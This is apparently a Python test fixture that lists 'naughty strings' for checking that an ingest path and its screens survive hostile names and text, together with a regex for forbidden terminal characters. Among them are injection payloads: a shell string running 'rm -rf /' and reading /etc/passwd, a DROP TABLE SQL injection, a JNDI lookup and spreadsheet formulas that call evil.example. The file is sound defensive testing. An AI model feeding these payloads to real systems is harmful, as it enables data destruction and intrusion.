"""Naughty strings: what a supplier file, a practices file or a person's name may hold.

Each is stored through the real ingest path as an id, a practice code, a name, free text, an
answer, a source and a template, and as a display name and a practice name, then shown by every
command and screen; none may crash anything or reach the terminal as anything but text.
"""

from __future__ import annotations

import re

NAUGHTY: list[str] = [
    # Rich / Textual markup
    "[/b]",
    "[/]",
    "[red]x",
    "[bold]bold[/bold] [/italic]",
    "[link=https://evil.example/]click me[/link]",
    "[@click=app.quit]quit[/]",
    "[b",
    "\\[b] \\",
    ":warning: :smile: $variable",
    # terminal escape sequences
    "\x1b[2J\x1b[H",
    "\x1b]0;PWNED title\x07",
    "\x1b]8;;https://evil.example/\x1b\\a link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[31mred\x1b[0m \x1b[?1049h alt screen",
    "\x1bc reset \x1b[6n ask",
    # C0 and C1 controls
    "bell\x07 back\x08\x08 vt\x0b ff\x0c cr\roverwritten",
    "\x00nul inside",
    "\x9b2J csi \x9b31m \x90dcs\x9c \x85nel \x9d osc",
    "del\x7f so\x0e si\x0f",
    # bidi overrides, isolates and marks; zero-width characters
    "\u202eevil.exe\u202c txt",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u200fmark\u200e \u061c",
    "zero\u200bwidth\u200c joiner\u200d bom\ufeff",
    # emoji and combining marks
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇬🇧 ❤️",
    "Z\u0334\u0321\u0322\u031b\u035a\u034e\u0344a\u0337l\u0336g\u0335o\u0338 e\u0301\u0301\u0301",
    # spreadsheet formulas, SQL, shell, format strings
    '=HYPERLINK("http://evil.example/","click")',
    "+cmd|' /C calc'!A0 @SUM(1+1) -2+3",
    "'; DROP TABLE consultation; --",
    '" OR 1=1 -- \\',
    "$(rm -rf /) `reboot` ; ls | cat /etc/passwd && echo",
    "%s%n%x {0} {__class__} ${jndi:ldap://evil.example/a}",
    # line breaks of every kind
    "line one\nline two\r\nline three\ttab",
    "line\u2028separator\u2029paragraph",
    # very long
    "long " + "[/b]\x1b[2J👩‍👩‍👧 " * 150,
]

# What may never reach the terminal: C0 controls but newline and tab, DEL, C1 controls, bidi
# embeddings/overrides/isolates/marks.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def forbidden(text: str) -> list[str]:
    """The forbidden characters in ``text``, as escapes (empty when the text is clean)."""
    return sorted({f"U+{ord(c):04X}" for c in FORBIDDEN.findall(text)})


def short(s: str) -> str:
    """A value short enough for the narrow fields (ids, names, sources)."""
    return s[:60]
